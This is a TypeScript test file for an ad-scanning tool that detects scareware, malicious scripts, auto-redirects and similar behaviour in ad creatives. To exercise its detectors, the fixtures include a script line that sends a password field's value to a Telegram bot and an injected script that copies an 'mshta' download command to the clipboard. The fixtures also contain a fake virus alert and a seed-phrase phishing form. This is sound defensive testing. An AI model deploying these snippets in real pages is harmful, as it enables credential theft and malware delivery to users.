import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { CapturedCreative } from '@adsweep/shared/capture/creative.ts';
import type { NetworkRequest } from '@adsweep/shared/capture/network-request.ts';
import { classify } from '../../../src/analysis/classification/classify.ts';
import { creativeEmpty, creativeInteractive } from '../../../src/analysis/detectors/behaviors/creatives.ts';
import { autoRedirect } from '../../../src/analysis/detectors/behaviors/navigation.ts';
import { detect } from '../../../src/analysis/detectors/detect.ts';
import { NO_EVIDENCE, withoutFirstDomains } from '../../../src/analysis/evidence/evidence.ts';
import { pictureName } from '../../../src/crawling/captures/find-artifact.ts';
import { evidenceOf } from '../../../src/crawling/captures/present-evidence.ts';
import { adBlocks } from '../../support/ad-blocks.ts';
import { captureOf } from '../../support/running-farm.ts';

const CREATIVE: CapturedCreative = {
  url: 'https://ads.example/frame',
  width: 300,
  height: 250,
  page_url: 'https://news.example/',
  page_title: 'news.example',
  redirect_chain: [],
};

const REQUEST: NetworkRequest = {
  ...{ id: 0, url: '', method: 'GET', resource_type: 'script', status_code: 200, content_type: 'text/javascript' },
  ...{ body_size: 80, timestamp_ms: 0, landing: null, hop: null, initiator: null, surface: 'creative' },
};

const checked = (inert: string) => ({
  ...NO_EVIDENCE,
  observations: [
    { kind: 'creative_interactive' as const, landing: null, url: CREATIVE.url, facts: { clicked: 3, inert } },
  ],
});

describe('what is found on a creative', () => {
  test('§2.5.6 a button that opens nothing makes it interactive; where all open the landing it is not', () => {
    assert.deepEqual(creativeInteractive.detect(checked('button#next')), [
      {
        tag_slug: 'creative_interactive',
        detail: 'button#next opened nothing; 3 things were clicked',
        url: '',
        surface: 'creative',
      },
    ]);
    assert.deepEqual(creativeInteractive.detect(checked('')), []);
    assert.deepEqual(creativeInteractive.detect(NO_EVIDENCE), []);
  });

  test('what an ad on a page does in its frames, and what its documents say, is found on the creative', () => {
    const ofCreative = { landing: null, url: CREATIVE.url };
    const sound = { via: 'play', muted: false, volume: 1, started: true, has_audio: true } as const;
    const trap = { pushes: 5, copies: 5, popstate_listener: true, probe_url: '' };
    const threat =
      'Windows Defender: your computer is infected with 5 viruses. Call +1 888 555 0123 now. Do not restart.';
    const document = { ...ofCreative, frame: 'F1', title: '', text: threat, html: threat };
    const requests = [{ ...REQUEST, url: 'https://ads.example/script.js' }];
    const text = "fetch('https://api.telegram.org/bot1/sendMessage?text=' + password.value)";
    const bodies = [
      {
        url: 'https://ads.example/script.js',
        resource_type: 'script',
        content_type: 'text/javascript',
        bytes: 80,
        text,
      },
    ];
    const { findings } = detect({
      ...NO_EVIDENCE,
      ...{ creative: CREATIVE, documents: [document], requests, bodies },
      observations: [
        { kind: 'autosound', ...ofCreative, facts: sound },
        { kind: 'back_button', ...ofCreative, facts: trap },
        { kind: 'invalid_certificate', ...ofCreative, facts: { host: 'ads.example', reason: 'expired' } },
        { kind: 'dialogs', ...ofCreative, facts: { count: 3 } },
        {
          kind: 'form',
          ...ofCreative,
          facts: { fields: ['seed_phrase'], action_url: 'https://t.example/', text: 'Ledger' },
        },
      ],
    });
    const found = findings.map(({ tag_slug, surface }) => `${tag_slug} ${surface}`);
    const expected = [
      'autosound',
      'back_button',
      'dialog_loop',
      'invalid_certificate',
      'malicious_script',
      'scareware',
    ];
    for (const slug of expected) assert.ok(found.includes(`${slug} creative`), `${slug}: ${found}`);
    assert.deepEqual(
      found.filter((one) => one.endsWith(' page')),
      [],
    );
  });

  test('what the HTML of an ad tag says and runs is found on the creative, unless its domain is skipped', () => {
    const creativeHtml =
      '<div><b>Windows</b> Defender</div><p>Your computer is\n<i>infected</i> with 5 viruses.</p><p>Do not restart it.</p>' +
      `<script>navigator.clipboard.writeText('mshta https://x.example/a')</script>`;
    const evidence = { ...NO_EVIDENCE, creative: CREATIVE, creativeHtml };
    const found = (one: typeof evidence) =>
      detect(one).findings.map(({ tag_slug, surface }) => `${tag_slug} ${surface}`);
    assert.deepEqual(found(evidence), ['scareware creative', 'malicious_script creative']);
    assert.match(detect(evidence).findings[0]!.detail, /"your computer is infected with 5 viruses\."/);
    const { landings } = captureOf([CREATIVE.url, 'https://shop.example/']);
    assert.deepEqual(found(withoutFirstDomains({ ...evidence, landings }, 1) as typeof evidence), []);
    const harmless = '<p>Is your computer infected?</p><a href="https://shop.example/">Scan now</a>';
    assert.deepEqual(found({ ...evidence, creativeHtml: harmless }), []);
  });

  test('an ad tag that renders nothing is a finding', () => {
    const found = creativeEmpty.detect({ ...NO_EVIDENCE, creative: { ...CREATIVE, width: 0, height: 0 } });
    assert.deepEqual(
      found.map(({ tag_slug, surface }) => [tag_slug, surface]),
      [['creative_empty', 'creative']],
    );
    assert.deepEqual(creativeEmpty.detect({ ...NO_EVIDENCE, creative: CREATIVE }), []);
    assert.deepEqual(creativeEmpty.detect(NO_EVIDENCE), []);
  });

  test('§2.5.11 it leads the page away to another site without a click, however soon', () => {
    const url = 'https://news.example/article';
    const ledAway = (to: string) => ({
      ...{ kind: 'auto_redirect' as const, landing: null, url },
      facts: { to, after_load_ms: 0, refused: false },
    });
    const found = (to: string) => autoRedirect.detect({ ...NO_EVIDENCE, observations: [ledAway(to)] });
    assert.deepEqual(
      found('https://win.example/').map(({ tag_slug, surface }) => [tag_slug, surface]),
      [['auto_redirect', 'creative']],
    );
    assert.deepEqual(found('https://www.news.example/next'), []);
  });

  test('§2.1.1 its ad network is that of what it loaded, before that of the way to the landing', () => {
    const creativeUrls = ['https://securepubads.g.doubleclick.net/tag/js/gpt.js'];
    const { network, network_host } = classify({ judged: [], captured: [], creativeUrls });
    assert.deepEqual([network !== '', network_host], [true, 'securepubads.g.doubleclick.net']);
    const own = classify({ judged: [], captured: [], creativeUrls, publisher: 'https://www.doubleclick.net/' });
    assert.deepEqual([own.network, own.network_host], ['', ''], "not where the publisher's own servers serve it");
  });

  test('§2.1.18 an ad server without a known name is told by its host alone', () => {
    const hostOf = (...servedUrls: string[]) =>
      classify({
        ...{ judged: [], captured: [], servedUrls },
        ...{ publisher: 'https://news.example/', pageUrl: 'https://www.neutral.example/' },
      });
    const adServer = 'https://ads.unheard-of.example/frame';
    assert.deepEqual(hostOf(adServer, 'https://other.example/x.js'), {
      ...{ brand: null, network: '', network_host: 'ads.unheard-of.example' },
    });
    assert.equal(
      hostOf('http://169.254.169.254/latest', 'http://intranet/', adServer).network_host,
      'ads.unheard-of.example',
    );
    const infrastructure = ['https://www.googletagmanager.com/gtm.js', 'https://cdn.doubleverify.com/x.js'];
    assert.equal(
      hostOf(...infrastructure, 'https://cdn.news.example/ad.js', 'https://www.neutral.example/').network_host,
      '',
    );
    assert.equal(hostOf(...infrastructure, adServer).network_host, 'ads.unheard-of.example');
    assert.equal(
      classify({ judged: [], captured: [], creativeUrls: [adServer] }).network_host,
      '',
      'not by its pictures',
    );
  });
});

describe('the network of an ad on a page', () => {
  const [block] = adBlocks(1);
  const networkOf = (changes: object) => {
    const creativeUrls = ['https://securepubads.g.doubleclick.net/tag/js/gpt.js'];
    const { network, network_host } = classify({
      ...{ judged: [], captured: [], creativeUrls },
      adBlock: { ...block!, ...changes },
    });
    return [network, network_host];
  };

  test('§2.1.1 is what the sweep found, also if that is none', () => {
    assert.deepEqual(networkOf({}), ['Example Ads', 'ads.example']);
    assert.deepEqual(networkOf({ network: '', network_host: '' }), ['', '']);
  });

  test('§2.1.2 of a pop has no host', () => {
    assert.deepEqual(networkOf({ ad_kind: 'pop' }), ['Example Ads', '']);
  });
});

describe('what a capture tells of a creative', () => {
  const hop = (url: string) => ({
    url,
    kind: 'initial' as const,
    status_code: 200,
    content_type: 'text/html',
    body_size: 1,
    timestamp_ms: 0,
    redirected_from: '',
  });
  const request = (id: number, url: string, of: object) => ({
    id,
    url,
    method: 'GET',
    resource_type: 'image',
    status_code: 200,
    content_type: '',
    body_size: 0,
    timestamp_ms: id,
    landing: null,
    hop: null,
    initiator: null,
    ...of,
  });
  const capture = {
    started_at: '2026-11-22T00:00:00.000Z',
    elapsed_ms: 1,
    browser: { name: 'chromium', version: '1' },
    exit: null,
    traffic: null,
    landings: [],
    observations: [],
    artifacts: [],
    notes: [],
    creative: { ...CREATIVE, redirect_chain: [hop('https://ads.example/hop'), hop(CREATIVE.url)] },
    requests: [
      request(0, 'https://ads.example/first.gif', { surface: 'creative', hop: 0 }),
      request(1, 'https://ads.example/own.gif', { surface: 'creative', hop: 1 }),
      request(2, 'https://ads.example/child.gif', { surface: 'creative', hop: 1, initiator: 1 }),
      request(3, 'https://ads.example/beacon', {}),
    ],
  };

  test('§2.1.8 its requests hang on its own chain, those of unknown origin on its last document', () => {
    const { creative } = evidenceOf({ capture, artifacts: [] });
    const seen = creative?.redirect_chain.map(({ sub_requests }) =>
      sub_requests.map(({ url, children }) => [url.split('/').at(-1), children.length]),
    );
    assert.deepEqual(seen, [
      [['first.gif', 0]],
      [
        ['own.gif', 1],
        ['beacon', 0],
      ],
    ]);
  });

  test('all requests of an ad on a page, which has no chain, are listed with it', () => {
    const requests = capture.requests.map((one) => ({ ...one, hop: null }));
    const onPage = { ...capture, requests, creative: { ...capture.creative, redirect_chain: [] } };
    const { creative } = evidenceOf({ capture: onPage, artifacts: [] });
    assert.deepEqual(creative?.redirect_chain, []);
    assert.deepEqual(
      creative?.requests.map(({ url, children }) => [url.split('/').at(-1), children.length]),
      [
        ['first.gif', 0],
        ['own.gif', 1],
        ['beacon', 0],
      ],
    );
  });

  test('§4.3.2 the page is pictured by what is around the creative, else by its first landing', () => {
    const artifact = (name: string) => ({ name, sha256: '', bytes: 0, content_type: '', width: 1, height: 1 });
    const artifacts = [artifact('page.jpeg'), artifact('creative.jpeg')];
    const landing = { ord: 0, opener_url: '', final_url: '', page_title: '', site_name: '', redirect_chain: [] };
    const landings = [{ ...landing, screenshot: 'landing-0.jpeg', opened_at_ms: 0, elapsed_ms: 0 }];
    assert.equal(pictureName({ capture, artifacts }, 'page'), 'page.jpeg');
    assert.equal(pictureName({ capture: { ...capture, landings }, artifacts }, 'page'), 'page.jpeg');
    assert.equal(pictureName({ capture: { ...capture, landings }, artifacts: [] }, 'page'), 'landing-0.jpeg');
    assert.equal(pictureName({ capture, artifacts }, 'creative'), 'creative.jpeg');
    assert.equal(pictureName({ capture, artifacts: [] }, 'creative'), null);
    assert.equal(pictureName({ capture, artifacts }, 'companion 0'), null);
    assert.equal(
      pictureName({ capture, artifacts: [artifact('companion-0.jpeg')] }, 'companion 0'),
      'companion-0.jpeg',
    );
    assert.equal(pictureName({ capture, artifacts }, 0), null);
  });
});
